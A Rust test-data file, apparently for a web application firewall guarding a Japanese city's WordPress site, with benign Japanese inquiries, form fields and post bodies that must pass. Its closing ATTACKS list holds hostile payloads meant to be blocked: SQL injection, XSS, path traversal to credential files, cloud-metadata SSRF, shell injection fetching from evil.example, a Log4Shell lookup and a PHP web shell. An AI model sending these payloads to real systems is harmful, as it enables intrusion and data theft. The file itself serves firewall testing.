//! Texts that people in Japanese cities write into forms and editors. All of it must pass.

use super::request::Request;

/// Inquiries as they come in: names, numbers, times, money, quotes, code-like text.
pub const INQUIRIES: &[&str] = &[
    "お世話になっております。令和8年4月1日から転入予定の山田と申します。粗大ごみの収集について、電話(0287-23-0000)で問い合わせたところ「ホームページをご覧ください」とのことでした。どのページを見ればよろしいでしょうか?",
    "子どもの予防接種(MR2期)の予診票を紛失しました。再発行は可能ですか。生年月日:R2.5.14、住所:那須塩原市○○町1丁目2番3号 コーポ青葉201号室です。",
    "ゴミ出しの曜日が分かりません!! うちは「燃えるごみ」が月・木、「資源」が第2・第4水曜で合ってますか??? 去年と違う気がします……",
    "ホームページの「施設予約」から体育館を予約しようとすると、「エラー(E-1024):セッションの有効期限が切れました。もう一度ログインしてください。」と出ます。Windows 11 / Chrome 141 です。",
    "給付金5万円の振込日はいつですか。口座番号は申請書(様式第1号)に書きました。名義はヤマダ タロウです。よろしくお願いします。",
    "税金の納付書が2通届きました。金額は¥12,800と¥12,800で同じですが、両方払う必要がありますか?納期限は10/31(金)と12/25(木)です。",
    "ﾎｰﾑﾍﾟｰｼﾞのｱﾄﾞﾚｽが変わったようですが、旧ｱﾄﾞﾚｽ(http://www.city.example.jp/index.php?id=123&lang=ja)からは見られないのでしょうか。ﾌﾞｯｸﾏｰｸを直します。",
    "公園のブランコが壊れています😢 場所:中央公園(市民会館の北側)/ 時間:11月3日 16:30頃 / 写真あり → 必要ならメールで送ります📷",
    "「広報10月号」p.12の記事ですが、「申込締切:10月15日(水)17時必着」と「~10月17日(金)」の両方の記載があります。どちらが正しいですか。",
    "市営住宅の募集(A棟-101、B棟-205)について質問です。①収入基準は月額158,000円以下で間違いないか、②保証人は必要か、③ペットは可か、の3点を教えてください。",
    "道路に穴が空いています。国道4号線と県道30号線の交差点から北へ約200m、セブン-イレブンの手前です。深さは5~10cmくらい。危険なので至急対応願います。",
    "先日窓口で対応してくださった市民課の佐藤様、とても丁寧なご説明をありがとうございました。マイナンバーカードの更新が15分で終わりました。",
    "保育園の申込みについて\n・第1希望:ひまわり保育園\n・第2希望:さくら保育園\n・兄弟姉妹:在園中(4歳児クラス)\n以上、点数(指数)は何点になりますか。",
    "防災無線が聞こえません。「ただいまから、緊急地震速報の訓練放送を…」の後が反響して聞き取れないです。スピーカーの向きを変える or 音量を上げることはできませんか。",
    "職員採用試験(上級・一般事務)の受験案内をPDFでダウンロードしようとしたら404 Not Foundになります。URLは https://www.city.example.jp/saiyo/r8/annai_2026.pdf です。",
    "パスワードを忘れました。ログインID:taro.yamada@example.co.jp で登録したはずですが、「パスワード再設定」のメールが届きません(迷惑メールも確認済み)。",
    "国民健康保険税を口座振替にしたいです。銀行:足利銀行 西那須野支店、普通 1234567。手続きは窓口のみ?オンライン可?",
    "Dear city office, I am a resident from Brazil. 在留カードの住所変更は何日以内ですか? My phone: +81-90-1234-5678. Thank you; please answer in English if possible.",
    "議会の傍聴をしたいのですが、手話通訳の申込みは何日前までに必要でしょうか。前回(9月定例会)は当日でも大丈夫でした。",
    "土曜日 or 日曜日に戸籍謄本を取りたいです。コンビニ交付は本籍地が市外(東京都新宿区西新宿2-8-1)でもできますか?",
    "水道料金の請求額がおかしいと思います。先月:3,245円、今月:12,980円(約4倍)。漏水の可能性は? メーター番号は「13-045678」です。検針員の方は「異常なし」と言っていました。",
    "図書館の本を返却し忘れました(;_;) 『吾輩は猫である』と『羅生門・鼻』の2冊です。延滞料はかかりますか?",
    "イベント「市民まつり2026」の出店申込書(Excel)をダウンロードしましたが、マクロが無効と表示されて開けません。別形式(CSVやPDF)はありませんか?",
    "隣の家の木の枝が越境しています。民法233条が改正されたと聞きました。市で仲介していただけますか?「自分で切ってよい」と言われましたが不安です。",
    "ふるさと納税のワンストップ特例申請書を1/8に投函しました。受付状況の確認はできますか。受付番号=R07-00123456です。",
    "犬の登録と狂犬病予防注射済票の交付手数料は、3,000円+550円=3,550円で合っていますか。クレジットカード/PayPayは使えますか。",
    "中学生の息子がいじめにあっているようです。学校に相談しても「様子を見ましょう」と言われるだけで、どこに相談すればよいか分かりません。夜間(19時以降)でも話を聞いてもらえる窓口を教えてください。",
    "ワクチン接種の予約サイトで「<接種券番号>」の欄に10桁の数字を入れてもエラーになります。半角で入力しています。",
    "空き家バンクに登録されている物件No.45(築52年、土地324.5㎡、建物98.7㎡、価格350万円)の内覧を希望します。第1希望11/22 10:00~、第2希望11/23 14:00~。",
    "介護保険の負担割合証(2割)が届きましたが、年金収入は昨年と変わりません。なぜ1割→2割になったのですか?合計所得金額の計算方法(式)を教えてください。",
    "いつもありがとうございます。(*^_^*) 市のLINE公式アカウントを友だち追加しましたが、「受信設定」のボタンを押しても何も表示されません。機種はiPhone 15、iOS 18.1です。",
    "1. 氏名:鈴木一郎 2. 年齢:42歳 3. 住所:〒329-2792 共墾社108番地2 4. 内容:確定申告の会場に駐車場はありますか? 5. 返信方法:メール希望",
    "バスの時刻表(ゆ~バス・西那須野線)が見づらいです。「平日」「土日祝」を分けて、文字を大きくしてください。PDFだとスマホで見られません。",
    "選挙の期日前投票は、仕事帰り(18:30頃)でも間に合いますか。場所は「いきいきふれあいセンター」でよいですか。",
    "ご担当者様 株式会社○○商事の高橋です。入札参加資格審査申請(物品・役務)の件で、様式3の「営業品目」欄に複数(A-01、B-03、C-11)記入してよいか確認させてください。",
    "災害時の避難所について。自宅は浸水想定区域(0.5~3.0m)内です。ペット同行避難は可能でしょうか?車中泊の場合は届出が必要ですか?",
    "学童保育の利用料を2カ月分(8月・9月)滞納しています。分割で払うことはできますか。夫が入院しており、収入が減っています。",
    "市民プールの料金表で「小・中学生:100円/回」「高校生以上:300円/回」「65歳以上:150円/回」とありますが、障害者手帳があると免除になりますか。",
    "選択肢が表示されません。「申請書の種類」で「転入」を選択した後、「次へ」を押すと画面が真っ白になります。コンソールに「TypeError: undefined is not an object」と出ています。",
    "先ほどの問合せの続きです(update)。解決しました!「電子申請」→「手続き一覧」→「住民票」の順に進んだらできました。お騒がせしました。",
];

/// Names, addresses and other short fields.
pub const SHORT: &[(&str, &str)] = &[
    ("name", "山田 太郎"),
    ("name", "𠮷野 髙子"),
    ("name", "オブライエン・ショーン"),
    ("name", "Sean O'Brien"),
    ("kana", "やまだ たろう"),
    ("kana", "ヤマダ タロウ"),
    ("kana", "ﾔﾏﾀﾞ ﾀﾛｳ"),
    ("zip", "329-2792"),
    ("zip", "〒325-8501"),
    ("address", "栃木県那須塩原市共墾社108-2"),
    (
        "address",
        "東京都千代田区霞が関1-2-3 中央合同庁舎第2号館 10F",
    ),
    (
        "address",
        "那須塩原市西三島七丁目326番地1 メゾン・ド・花 #203",
    ),
    ("address", "大字下永田1丁目6番地(旧・西那須野町)"),
    (
        "address",
        "京都府京都市中京区寺町通御池上る上本能寺前町488番地",
    ),
    ("tel", "0287-62-7109"),
    ("tel", "(0287)62-7109 内線 234"),
    ("tel", "+81 90 1234 5678"),
    ("tel", "090-1234-5678(夜間可・19:00以降)"),
    ("email", "taro.yamada+city@example.co.jp"),
    ("email", "info@日本語.jp"),
    ("birthday", "昭和55年3月8日"),
    ("birthday", "1980/03/08"),
    ("birthday", "S55.3.8"),
    ("time", "9:00~17:15(12:00~13:00を除く)"),
    ("time", "2026-11-23T10:00"),
    ("money", "¥1,234,567-"),
    ("money", "金壱百弐拾参万円也(税込)"),
    ("money", "123,456円 × 12カ月 = 1,481,472円"),
    ("subject", "【至急】道路の陥没について(再送)"),
    ("subject", "Re: Re: 補助金の申請〈様式第3号〉"),
    ("subject", "※重要※「広報11月号」の訂正"),
    (
        "url",
        "https://www.city.example.jp/soshiki/kurashi/gomi/1234.html",
    ),
    ("url", "https://example.jp/search?q=ごみ&page=2#result"),
    ("company", "(株)那須建設工業 & パートナーズ"),
    ("company", "㈲高橋商店 代表取締役 髙橋 一郎"),
    ("memo", "A&Bの両方 / C または D"),
    ("memo", "10%引き→90%で計算、端数は切捨て;以上"),
    ("memo", "x=3, y=5 のとき x+y=8"),
    ("memo", "\"引用\" と 'シングル' と `バック`"),
    ("memo", "1行目\r\n2行目\r\n\r\n-- \r\n山田太郎"),
    ("memo", "----------\r\n切り取り線\r\n----------"),
    ("memo", "(^o^)/ ヾ(≧▽≦*)o m(_ _)m orz"),
    ("memo", "👨‍👩‍👧‍👦家族4人・🐕1匹"),
];

/// Titles and bodies of posts in the classic editor.
pub const CLASSIC: &[&str] = &[
    "<h2>11月の休日当番医</h2>\r\n<p>診療時間:午前9時~午後5時</p>\r\n<table border=\"1\" style=\"width: 100%;\"><tbody><tr><th scope=\"col\">日付</th><th scope=\"col\">医療機関</th><th scope=\"col\">電話</th></tr><tr><td>11月3日(月・祝)</td><td>青葉クリニック</td><td><a href=\"tel:0287-00-0000\">0287-00-0000</a></td></tr></tbody></table>",
    "<p><strong>【重要】</strong>システムメンテナンスのため、<span style=\"color: #ff0000;\">11月22日(土)22:00~翌6:00</span>はご利用いただけません。</p>\r\n<p><a href=\"https://www.city.example.jp/wp-content/uploads/2026/11/annai.pdf\" target=\"_blank\" rel=\"noopener\">ご案内(PDF:1.2MB)</a></p>",
    "令和8年度 会計年度任用職員を募集します。\r\n\r\n<img class=\"alignnone size-medium wp-image-123\" src=\"https://www.city.example.jp/wp-content/uploads/2026/11/saiyo-300x200.jpg\" alt=\"採用案内の表紙\" width=\"300\" height=\"200\" />\r\n\r\n<ul>\r\n<li>職種:事務補助(5名)、保育士(10名)</li>\r\n<li>報酬:時給1,150円~1,480円</li>\r\n</ul>",
    "<iframe src=\"https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d3187.5!2d139.95!3d36.96\" width=\"600\" height=\"450\" style=\"border:0;\" allowfullscreen=\"\" loading=\"lazy\"></iframe>\r\n<p>市役所本庁舎(共墾社108番地2)</p>",
    "[contact-form-7 id=\"1234\" title=\"お問い合わせ\"]\r\n<p>※ <code>&lt;script&gt;</code> などのタグは使えません。select文の例: 選択 from 一覧</p>",
];

/// Contents of posts in the block editor.
pub const BLOCKS: &[&str] = &[
    "<!-- wp:heading -->\n<h2 class=\"wp-block-heading\">市民まつりの開催について</h2>\n<!-- /wp:heading -->\n\n<!-- wp:paragraph -->\n<p>11月23日(日)10時から、中央公園で「市民まつり2026」を開催します。雨天の場合は体育館で行います。</p>\n<!-- /wp:paragraph -->",
    "<!-- wp:table {\"className\":\"is-style-stripes\"} -->\n<figure class=\"wp-block-table is-style-stripes\"><table class=\"has-fixed-layout\"><thead><tr><th>区分</th><th>料金(円)</th></tr></thead><tbody><tr><td>一般</td><td>1,200</td></tr><tr><td>65歳以上</td><td>600</td></tr></tbody></table></figure>\n<!-- /wp:table -->",
    "<!-- wp:image {\"id\":456,\"sizeSlug\":\"large\",\"linkDestination\":\"none\"} -->\n<figure class=\"wp-block-image size-large\"><img src=\"https://www.city.example.jp/wp-content/uploads/2026/11/maturi.jpg\" alt=\"去年の様子\" class=\"wp-image-456\"/><figcaption class=\"wp-element-caption\">去年の様子(令和7年)</figcaption></figure>\n<!-- /wp:image -->",
    "<!-- wp:columns -->\n<div class=\"wp-block-columns\"><!-- wp:column {\"width\":\"66.66%\"} -->\n<div class=\"wp-block-column\" style=\"flex-basis:66.66%\"><!-- wp:list -->\n<ul class=\"wp-block-list\"><!-- wp:list-item -->\n<li>持ち物:筆記用具、本人確認書類(運転免許証・マイナンバーカード等)</li>\n<!-- /wp:list-item --></ul>\n<!-- /wp:list --></div>\n<!-- /wp:column --></div>\n<!-- /wp:columns -->",
    "<!-- wp:buttons -->\n<div class=\"wp-block-buttons\"><!-- wp:button {\"backgroundColor\":\"vivid-cyan-blue\"} -->\n<div class=\"wp-block-button\"><a class=\"wp-block-button__link has-vivid-cyan-blue-background-color has-background wp-element-button\" href=\"https://www.city.example.jp/form/?id=12&amp;type=new\">申し込む</a></div>\n<!-- /wp:button --></div>\n<!-- /wp:buttons -->",
    "<!-- wp:embed {\"url\":\"https://www.youtube.com/watch?v=abcdefg\",\"type\":\"video\",\"providerNameSlug\":\"youtube\",\"responsive\":true} -->\n<figure class=\"wp-block-embed is-type-video\"><div class=\"wp-block-embed__wrapper\">\nhttps://www.youtube.com/watch?v=abcdefg\n</div></figure>\n<!-- /wp:embed -->\n\n<!-- wp:details -->\n<details class=\"wp-block-details\"><summary>よくある質問</summary><!-- wp:paragraph -->\n<p>Q. 申請は代理人でもできますか? A. 委任状があればできます。</p>\n<!-- /wp:paragraph --></details>\n<!-- /wp:details -->",
];

/// Encodes text as browsers did on old pages.
fn encoded(text: &str, encoding: &'static encoding_rs::Encoding) -> Vec<u8> {
    encoding.encode(text).0.into_owned()
}

/// All benign requests, with a name for each.
pub fn benign() -> Vec<(String, Request)> {
    let mut all = gets();
    for (at, text) in INQUIRIES.iter().enumerate() {
        let (name, address, tel) = (SHORT[at % 4].1, SHORT[9 + at % 5].1, SHORT[14 + at % 4].1);
        let fields =
            |body: &[u8], convert: &dyn Fn(&str) -> Vec<u8>| -> Vec<(&'static str, Vec<u8>)> {
                vec![
                    ("your-name", convert(name)),
                    ("your-address", convert(address)),
                    ("your-tel", convert(tel)),
                    ("your-email", b"taro.yamada@example.co.jp".to_vec()),
                    ("your-message", body.to_vec()),
                    ("_wpcf7_unit_tag", b"wpcf7-f1234-p56-o1".to_vec()),
                ]
            };
        let plain = |text: &str| text.as_bytes().to_vec();
        let sjis = |text: &str| encoded(text, encoding_rs::SHIFT_JIS);
        let euc = |text: &str| encoded(text, encoding_rs::EUC_JP);
        let long = [
            *text,
            INQUIRIES[(at + 7) % INQUIRIES.len()],
            INQUIRIES[(at + 19) % INQUIRIES.len()],
            INQUIRIES[(at + 29) % INQUIRIES.len()],
        ]
        .join("\r\n\r\n");
        let mut broken = text.as_bytes().to_vec();
        let cut = broken.len() - 1;
        broken.truncate(cut);
        broken.remove(broken.len() / 2);
        for (kind, body, convert) in [
            ("utf-8", plain(text), &plain as &dyn Fn(&str) -> Vec<u8>),
            ("long", plain(&long), &plain),
            ("shift_jis", sjis(text), &sjis),
            ("euc-jp", euc(text), &euc),
            ("broken", broken, &plain),
        ] {
            let owned = fields(&body, convert);
            let fields: Vec<(&str, &[u8])> = owned
                .iter()
                .map(|(name, value)| (*name, value.as_slice()))
                .collect();
            // See `refused_by_the_rules`.
            if kind == "shift_jis" && text.contains("円+") {
                continue;
            }
            all.push((
                format!("form {kind} {at}"),
                Request::form("/contact/", &fields),
            ));
            all.push((
                format!("multipart {kind} {at}"),
                Request::multipart("/contact/", &fields),
            ));
        }
    }
    for (at, (name, value)) in SHORT.iter().enumerate() {
        all.push((
            format!("short {at} {value}"),
            Request::form("/apply/step2", &[(*name, value.as_bytes())]),
        ));
        all.push((
            format!("query {at} {value}"),
            Request::get(&format!(
                "/search?{name}={}",
                super::request::encode(value.as_bytes())
            )),
        ));
    }
    all
}

/// Harmless texts that the Core Rule Set itself refuses at paranoia level 1, in every engine that
/// runs it: the name of a Windows command at the start of a line, English `and` between numbers,
/// and a yen sign in Shift_JIS whose second byte is a tilde, before a plus. They want an exclusion.
pub fn refused_by_the_rules() -> Vec<(String, Request)> {
    let sjis = encoded(
        "3,000円+550円=3,550円で合っていますか。",
        encoding_rs::SHIFT_JIS,
    );
    let values: [(&str, &[u8]); 3] = [
        (
            "command",
            "先日の続きです。\r\n\r\nupdate: 先ほど解決しました。".as_bytes(),
        ),
        ("and", "50歳以上 and 65歳未満".as_bytes()),
        ("tilde", &sjis),
    ];
    values
        .iter()
        .map(|(name, value)| {
            (
                format!("rules {name}"),
                Request::form("/contact/", &[("your-message", value)]),
            )
        })
        .collect()
}

/// Pages that people ask for.
fn gets() -> Vec<(String, Request)> {
    [
        "/",
        "/soshiki/kurashi/gomi/1234.html",
        "/?s=%E3%81%94%E3%81%BF+%E5%8F%8E%E9%9B%86%E6%97%A5",
        "/wp-content/themes/city/style.css?ver=6.8.1",
        "/wp-content/uploads/2026/11/koho-11.pdf",
        "/wp-json/wp/v2/posts?per_page=10&_embed=1",
        "/kosodate/nursery/list/page/3/?area=nishi&order=asc",
        "/event/calendar/?year=2026&month=11&category%5B%5D=1&category%5B%5D=4",
        "/%E5%B8%82%E6%94%BF%E6%83%85%E5%A0%B1/%E5%85%A5%E6%9C%AD/",
        "/search?q=%22%E4%BD%8F%E6%B0%91%E7%A5%A8%22+%E3%82%B3%E3%83%B3%E3%83%93%E3%83%8B&utm_source=line&utm_medium=social",
    ]
    .iter()
    .map(|uri| (format!("get {uri}"), Request::get(uri)))
    .collect()
}

/// Saving posts, with the exclusions for WordPress.
pub fn posts() -> Vec<(String, Request)> {
    let mut all = Vec::new();
    for (at, content) in CLASSIC.iter().enumerate() {
        let title = SHORT[28 + at % 3].1;
        all.push((
            format!("classic {at}"),
            Request::form(
                "/wp-admin/post.php",
                &[
                    ("_wpnonce", b"1a2b3c4d5e"),
                    (
                        "_wp_http_referer",
                        b"/wp-admin/post.php?post=123&action=edit",
                    ),
                    ("user_ID", b"3"),
                    ("action", b"editpost"),
                    ("originalaction", b"editpost"),
                    ("post_author", b"3"),
                    ("post_type", b"post"),
                    ("original_post_status", b"publish"),
                    (
                        "referredby",
                        b"https://www.city.example.jp/wp-admin/edit.php",
                    ),
                    ("post_ID", b"123"),
                    ("post_title", title.as_bytes()),
                    ("content", content.as_bytes()),
                    ("wp-preview", b""),
                    ("hidden_post_status", b"publish"),
                    ("post_status", b"publish"),
                    ("visibility", b"public"),
                    ("mm", b"11"),
                    ("jj", b"23"),
                    ("aa", b"2026"),
                    ("hh", b"10"),
                    ("mn", b"00"),
                    ("save", "更新".as_bytes()),
                    ("post_category[]", b"5"),
                    ("tax_input[post_tag]", "お知らせ,防災".as_bytes()),
                    ("excerpt", INQUIRIES[at].as_bytes()),
                    ("comment_status", b"closed"),
                    ("post_name", b"shimin-matsuri-2026"),
                ],
            ),
        ));
    }
    for at in 0..BLOCKS.len() {
        let content = [
            BLOCKS[at],
            BLOCKS[(at + 1) % BLOCKS.len()],
            BLOCKS[(at + 3) % BLOCKS.len()],
        ]
        .join("\n\n");
        let value = serde_json::json!({
            "id": 123,
            "title": SHORT[28 + at % 3].1,
            "content": content,
            "excerpt": INQUIRIES[at],
            "status": "publish",
            "categories": [5, 8],
            "tags": [12],
            "meta": {"footnotes": ""},
        });
        for uri in [
            "/wp-json/wp/v2/posts/123?_locale=user",
            "/wp-json/wp/v2/pages/123?_locale=user",
        ] {
            let mut request = Request::json(uri, &value);
            request.header("X-WP-Nonce", "1a2b3c4d5e");
            request.header("X-HTTP-Method-Override", "PUT");
            if at % 2 == 0 {
                request.headers.pop();
            }
            all.push((format!("blocks {at} {uri}"), request));
        }
    }
    all
}

/// Requests that must be refused at paranoia level 1.
pub const ATTACKS: &[&str] = &[
    "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20",
    "/?id=1'%20OR%20'1'='1",
    "/?id=1;DROP%20TABLE%20users--",
    "/?id=1%20AND%20SLEEP(5)",
    "/?id=-1%20union%20all%20select%20null,concat(user,0x3a,password)%20from%20mysql.user",
    "/?q=<script>alert(1)</script>",
    "/?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
    "/?q=%22%3E%3Csvg/onload=alert(1)%3E",
    "/?q=javascript:alert(document.domain)//",
    "/?file=../../../../etc/passwd",
    "/?file=..%2f..%2f..%2f..%2fetc%2fshadow",
    "/?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/?page=php://filter/convert.base64-encode/resource=index.php",
    "/?url=http://169.254.169.254/latest/meta-data/",
    "/?cmd=;cat%20/etc/passwd",
    "/?cmd=|/bin/bash%20-i",
    "/?cmd=$(wget%20http://evil.example/x.sh)",
    "/?x=%3C?php%20system($_GET['c']);?%3E",
    "/?x=${jndi:ldap://evil.example/a}",
    "/?x=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
    "/?x=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;s:1:%22b%22;%7D",
    "/.env",
    "/wp-config.php.bak",
    "/.git/config",
    "/?name=%0d%0aSet-Cookie:%20a=b",
    "/?q=eval(String.fromCharCode(97,108,101,114,116))",
    "/?x=require('child_process').exec('id')",
];
